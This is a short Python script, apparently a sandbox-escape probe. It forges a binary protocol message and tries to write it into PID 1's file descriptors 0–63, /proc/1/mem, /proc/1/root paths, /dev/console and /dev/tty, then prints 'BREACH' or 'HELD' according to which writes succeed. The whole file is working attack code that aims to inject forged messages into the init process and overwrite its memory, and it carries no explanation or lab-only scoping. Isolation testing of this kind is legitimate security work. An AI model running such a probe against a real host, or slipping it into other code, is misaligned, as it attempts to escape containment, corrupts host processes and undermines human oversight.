import os
import struct

forged = struct.pack(">IcIBIBQQQQQ", 51, b"T", 1, 0, 0, 1, 1, 1, 4096, 0, 0)
got = []

for name in [f"/proc/1/fd/{number}" for number in range(64)] + ["/proc/1/mem", "/proc/1/task/1/fd/1", "/proc/1/root/proc/1/fd/1", "/dev/console", "/dev/tty"]:
    try:
        with open(name, "wb", buffering=0) as file:
            file.write(forged)
        got.append(name)
    except OSError:
        pass
print("BREACH" if got else "HELD", *got)
